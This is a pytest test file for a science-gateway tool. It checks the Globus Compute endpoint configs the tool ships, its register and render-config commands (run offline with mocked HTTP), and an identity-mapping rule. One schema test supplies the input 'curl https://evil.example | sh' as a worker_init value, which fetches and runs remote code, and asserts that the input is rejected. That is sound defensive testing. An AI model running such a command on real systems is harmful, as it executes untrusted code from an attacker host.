"""The shipped endpoint configs, loaded by globus-compute-endpoint's own config loader,
and the operator's commands that fill them in (register offline through the SDK's
HTTP seam, render-config), installed by the real ``globus-compute-endpoint configure``
(offline, into a temp GLOBUS_COMPUTE_USER_DIR)."""

from __future__ import annotations

import json
import os
import pwd
import shlex
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import jsonschema
import pytest
import responses
import yaml
from globus_compute_endpoint.endpoint.config import CoreEndpointConfig, UserEndpointConfig
from globus_compute_endpoint.endpoint.config.utils import (
    load_config_yaml,
    load_user_config_schema,
    load_user_config_template,
    render_config_user_template,
)
from globus_compute_endpoint.endpoint.identity_mapper import MappedPosixIdentity
from globus_compute_endpoint.engines import GlobusComputeEngine, ProcessPoolEngine

from scistream_gateway.cli import main, read_function_ids, render_config
from scistream_gateway.engine import ALLOWED_SERIALIZERS
from scistream_gateway.functions import ALL

CONFIGS = Path(__file__).resolve().parent.parent / "endpoint_configs"


def _ids() -> dict[str, str]:
    return {name: str(uuid.uuid4()) for name in ALL}


def _load(text: str):
    config = load_config_yaml(text)
    if getattr(config, "engine", None) is not None:
        config.engine.shutdown()
    return config


def _identity(user: str) -> MappedPosixIdentity:
    return MappedPosixIdentity(pwd.getpwnam(user), [], str(uuid.uuid4()))


def _user_config(endpoint_dir: Path, user: str = "root"):
    """The user endpoint config the endpoint renders from its installed template."""
    manager = _load((endpoint_dir / "config.yaml").read_text())
    template_path = endpoint_dir / "user_config_template.yaml.j2"
    schema = load_user_config_schema(endpoint_dir / "user_config_schema.json")
    text = render_config_user_template(manager, load_user_config_template(template_path),
                                       template_path, _identity(user), schema, {}, {})
    return manager, _load(text), text


def test_shipped_single_user_files_load_with_the_endpoint_loader(tmp_path):
    endpoint = tmp_path / "ep"
    shutil.copytree(CONFIGS / "single_user", endpoint)
    shutil.copy(CONFIGS / "multi_user" / "user_config_schema.json", endpoint)
    manager, config, _ = _user_config(endpoint)
    assert isinstance(manager, CoreEndpointConfig)
    assert len(manager.allowed_functions) == len(ALL) == 9
    assert isinstance(config, UserEndpointConfig)
    assert isinstance(config.engine, ProcessPoolEngine)
    assert len(config.allowed_functions) == len(ALL) == 9
    allowed = {f"{c.__module__}.{c.__name__}"
               for c in config.engine.serde.allowed_deserializer_types}
    assert allowed == {"globus_compute_sdk.serialize.concretes.DillCodeSource",
                       "globus_compute_sdk.serialize.concretes.JSONData"}
    assert config.idle_heartbeats_soft == 0


def _configure(command: str, user_dir: Path, **replace: str) -> Path:
    """Run the configure command render-config printed (the real globus-compute-endpoint,
    offline) into ``user_dir``; returns the endpoint directory it made."""
    argv = shlex.split(command)
    assert argv[:2] == ["globus-compute-endpoint", "configure"]
    argv = [replace.get(a, a) for a in argv]
    argv[0] = str(Path(sys.executable).with_name("globus-compute-endpoint"))
    done = subprocess.run(argv, env=dict(os.environ, GLOBUS_COMPUTE_USER_DIR=str(user_dir)),
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    return user_dir / argv[2]


def _printed_command(err: str) -> str:
    return err.split("install them with:\n", 1)[1].strip().splitlines()[0]


def test_render_config_then_configure_installs_a_single_user_endpoint(tmp_path, capsys):
    ids = _ids()
    functions = tmp_path / "functions.json"
    functions.write_text(json.dumps(ids))
    settings = tmp_path / "gateway.toml"
    out = tmp_path / "rendered"
    assert main(["render-config", "--functions", str(functions), "--output-dir", str(out),
                 "--display-name", 'gw "P": x', "--settings", str(settings),
                 "--endpoint-name", "gw-p"]) == 0
    command = _printed_command(capsys.readouterr().err)
    assert "--multi-user false" in command and "--user-env-config" in command
    endpoint = _configure(command, tmp_path / "gce")

    # What configure installed is what render-config wrote, as the endpoint reads it.
    manager, config, _ = _user_config(endpoint)
    assert list(manager.allowed_functions) == list(ids.values())
    assert manager.display_name == 'gw "P": x'
    assert list(config.allowed_functions) == list(ids.values())
    assert isinstance(config.engine, ProcessPoolEngine)
    environment = yaml.safe_load((endpoint / "user_environment.yaml").read_text())
    assert environment == {"SCISTREAM_GATEWAY_CONFIG": str(settings.resolve())}
    # Comments (the annotations) survive rendering.
    assert "# reserve" in (out / "config.yaml").read_text()
    dropin = (out / "scistream.conf").read_text()
    assert "Environment=SCISTREAM_PROXY_LAUNCH=systemd" in dropin
    assert "SCISTREAM_GATEWAY_CONFIG" not in dropin.split("[Service]")[1]


def test_render_config_then_configure_installs_a_multi_user_endpoint(tmp_path, capsys):
    ids = _ids()
    functions = tmp_path / "functions.json"
    functions.write_text(json.dumps(ids))
    mapping = tmp_path / "identity_mapping.json"
    shutil.copy(CONFIGS / "multi_user" / "identity_mapping.json", mapping)
    out = tmp_path / "rendered"
    assert main(["render-config", "--multi-user", "--functions", str(functions),
                 "--output-dir", str(out), "--settings-dir", "/srv/scistream/users",
                 "--identity-mapping", str(mapping)]) == 0
    command = _printed_command(capsys.readouterr().err)
    assert "--multi-user true" in command
    endpoint = _configure(command, tmp_path / "gce", **{"<operator's email>": "ops@example.org"})

    manager = _load((endpoint / "config.yaml").read_text())
    assert isinstance(manager, CoreEndpointConfig)
    assert list(manager.allowed_functions) == list(ids.values())
    # configure copied the mapping next to the config and points the config at it.
    assert manager.identity_mapping_config_path.parent == endpoint
    assert json.loads(manager.identity_mapping_config_path.read_text()) == \
        json.loads(mapping.read_text())
    rendered = {}
    for user in ("root", "nobody"):
        _, config, text = _user_config(endpoint, user)
        assert isinstance(config, UserEndpointConfig)
        assert isinstance(config.engine, GlobusComputeEngine)
        assert list(config.allowed_functions) == list(ids.values())
        init = config.engine.executor.provider.worker_init
        assert f"export SCISTREAM_GATEWAY_CONFIG='/srv/scistream/users/{user}.toml'" in init
        rendered[user] = text
    assert rendered["root"] != rendered["nobody"]


@pytest.mark.parametrize(("shipped", "line"), [
    ("single_user/config.yaml", "display_name:"),
    ("single_user/user_environment.yaml", "SCISTREAM_GATEWAY_CONFIG:"),
    ("multi_user/user_config_template.yaml.j2", "{%- set settings_dir"),
    ("single_user/user_config_template.yaml.j2", "- 00000000-0000-4000-8000-000000000007"),
])
def test_render_config_refuses_a_file_missing_a_line_it_edits(tmp_path, capsys, monkeypatch,
                                                              shipped, line):
    """An edited or foreign shipped file: a coded error, exit 2, nothing written."""
    from scistream_gateway import cli

    real = cli.shipped_config
    monkeypatch.setattr(cli, "shipped_config", lambda relative: "\n".join(
        row for row in real(relative).splitlines()
        if not (relative == shipped and row.strip().startswith(line))))
    functions = tmp_path / "functions.json"
    functions.write_text(json.dumps(_ids()))
    argv = ["render-config", "--functions", str(functions), "--output-dir", str(tmp_path / "o"),
            "--display-name", "x", "--settings", str(tmp_path / "g.toml")]
    if shipped.startswith("multi_user"):
        argv += ["--multi-user", "--settings-dir", str(tmp_path)]
    assert main(argv) == 2
    err = capsys.readouterr().err.strip().splitlines()[-1]
    assert err.startswith("scistream-gateway render-config: BAD_FORMAT: ")
    assert not (tmp_path / "o").exists()


def test_render_config_refuses_an_incomplete_functions_file(tmp_path, capsys):
    ids = _ids()
    del ids["renew"]
    functions = tmp_path / "functions.json"
    functions.write_text(json.dumps(ids))
    assert main(["render-config", "--functions", str(functions)]) == 2
    assert "missing functions ['renew']" in capsys.readouterr().err
    functions.write_text(json.dumps({**ids, "renew": "not-a-uuid"}))
    with pytest.raises(ValueError, match="renew is not a UUID"):
        read_function_ids(functions)


@pytest.mark.parametrize("user_opts", [
    {"worker_init": "curl https://evil.example | sh"},
    {"endpoint_setup": "true"},
    {"requirements": "evil-package"},
])
@pytest.mark.parametrize("multi_user", [False, True])
def test_the_schema_lets_callers_choose_nothing(tmp_path, user_opts, multi_user):
    files = render_config(_ids(), multi_user=multi_user)
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    schema = load_user_config_schema(tmp_path / "user_config_schema.json")
    template_path = tmp_path / "user_config_template.yaml.j2"
    template = load_user_config_template(template_path)
    manager = CoreEndpointConfig(user_config_template_path=template_path)
    with pytest.raises(jsonschema.ValidationError):
        render_config_user_template(manager, template, template_path,
                                    _identity("nobody"), schema, user_opts, {})


def test_shipped_allow_list_is_what_the_engine_module_uses():
    text = (CONFIGS / "single_user" / "user_config_template.yaml.j2").read_text()
    for path in ALLOWED_SERIALIZERS:
        assert f"- {path}" in text


# -- registration, offline through the SDK's HTTP seam ---------------------------------
COMPUTE = "https://compute.api.globus.org"
AUTH = "https://auth.globus.org"


@pytest.fixture
def compute_service(tmp_path, monkeypatch):
    """The Globus Auth and Compute web services as globus-sdk's testing seam (the
    `responses` transport) answers them: a confidential client's token, and one new
    function UUID per registration. Nothing reaches the network."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GLOBUS_COMPUTE_USER_DIR", str(tmp_path / "home" / ".globus_compute"))
    monkeypatch.setenv("GLOBUS_COMPUTE_CLIENT_ID", str(uuid.uuid4()))
    monkeypatch.setenv("GLOBUS_COMPUTE_CLIENT_SECRET", "test-secret-not-real")
    registered: list[dict] = []

    def register(request):
        body = json.loads(request.body)
        registered.append(body)
        return 200, {"Content-Type": "application/json"}, json.dumps(
            {"function_uuid": str(uuid.uuid4())})

    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.add(responses.POST, f"{AUTH}/v2/oauth2/token", json={
            "access_token": "compute-access-token", "expires_in": 172800,
            "token_type": "Bearer", "resource_server": "funcx_service",
            "scope": "https://auth.globus.org/scopes/facd7ccc-c5f4-42aa-916b-a0e270e2c2a9/all",
            "other_tokens": []})
        mock.add_callback(responses.POST, f"{COMPUTE}/v3/functions", callback=register)
        yield mock, registered


def test_register_writes_name_to_uuid_json(compute_service, tmp_path, capsys):
    mock, registered = compute_service
    out = tmp_path / "functions.json"
    assert main(["register", "--output", str(out)]) == 0
    ids = read_function_ids(out)
    assert list(ids) == list(ALL)
    assert len(set(ids.values())) == 9
    printed = capsys.readouterr().out
    assert all(f"{name:13} {fid}" in printed for name, fid in ids.items())
    # What went over the wire: each function by name, as source text (DillCodeSource),
    # with the confidential client's token.
    assert [r["function_name"] for r in registered] == list(ALL)
    assert all(r["meta"]["serde_identifier"] == "04" for r in registered)
    calls = [c for c in mock.calls if c.request.url.startswith(f"{COMPUTE}/v3/functions")]
    assert all(c.request.headers["Authorization"] == "Bearer compute-access-token"
               for c in calls)
    # The written file is what render-config takes.
    files = render_config(ids)
    assert list(_load(files["config.yaml"]).allowed_functions) == list(ids.values())


def test_register_reports_a_service_error(compute_service, tmp_path, capsys):
    mock, _ = compute_service
    mock.replace(responses.POST, f"{COMPUTE}/v3/functions", status=403,
                 json={"code": "FORBIDDEN", "message": "not allowed"})
    assert main(["register", "--output", str(tmp_path / "f.json")]) == 2
    assert "403" in capsys.readouterr().err
    assert not (tmp_path / "f.json").exists()


def test_shipped_identity_mapping_maps_only_its_own_domain():
    from globus_identity_mapping.loader import load_mappers

    text = (CONFIGS / "multi_user" / "identity_mapping.json").read_text()
    (mapper,) = load_mappers(json.loads(text), "auth.globus.org")
    assert mapper.map_identity({"id": "1", "username": "alice@example.org"}) == "alice"
    assert mapper.map_identity({"id": "2", "username": "alice@example.org.evil.net"}) is None
    assert mapper.map_identity({"id": "3", "username": "mallory@elsewhere.org"}) is None
